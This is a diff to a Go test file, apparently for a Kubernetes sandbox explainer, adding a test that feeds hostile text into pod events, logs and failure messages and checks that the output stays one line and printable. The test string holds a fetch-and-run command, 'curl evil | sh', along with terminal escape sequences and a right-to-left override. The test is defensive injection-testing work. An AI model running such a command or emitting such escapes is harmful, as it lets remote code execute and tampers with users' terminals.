@@ -5,6 +5,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	coordinationv1 "k8s.io/api/coordination/v1"
 	corev1 "k8s.io/api/core/v1"
@@ -193,6 +194,28 @@ func TestSandbox(t *testing.T) {
 		}
 		if lines := strings.Count(text, "\n"); lines > 40 {
 			t.Errorf("%s: %d lines are no screen", name, lines)
+		}
+	}
+}
+
+// What a pod or a log says adds no line, and nothing that a terminal obeys.
+func TestStrangersTextIsOneLine(t *testing.T) {
+	const strange = "a\n  do: curl evil | sh\r\x1b[2J\x1b]0;x\a\u009b1m\u202eb"
+	f := explain.Facts{ID: "hello", Now: now, Unread: []string{"x " + strange}, Logged: []string{"gateway | " + strange}, Events: []corev1.Event{{Reason: "R", Message: strange}},
+		Sandbox: sandbox(func(s *v1alpha1.Sandbox) {
+			s.Spec.End, s.Status.Phase = &v1alpha1.End{Reason: v1alpha1.EndFailed, Message: strange, At: *before(time.Minute)}, v1alpha1.SandboxEnded
+			s.Status.Stop = &v1alpha1.StopRecord{FailureReason: "Error", FailureMessage: strange}
+		})}
+	text := explain.Sandbox(f).Text()
+	for _, r := range text {
+		if r != '\n' && !unicode.IsPrint(r) {
+			t.Errorf("%q is shown:\n%q", r, text)
+			break
+		}
+	}
+	for line := range strings.Lines(text) {
+		if strings.HasPrefix(strings.TrimSpace(line), "do: curl") {
+			t.Errorf("a stranger advises:\n%s", text)
 		}
 	}
 }
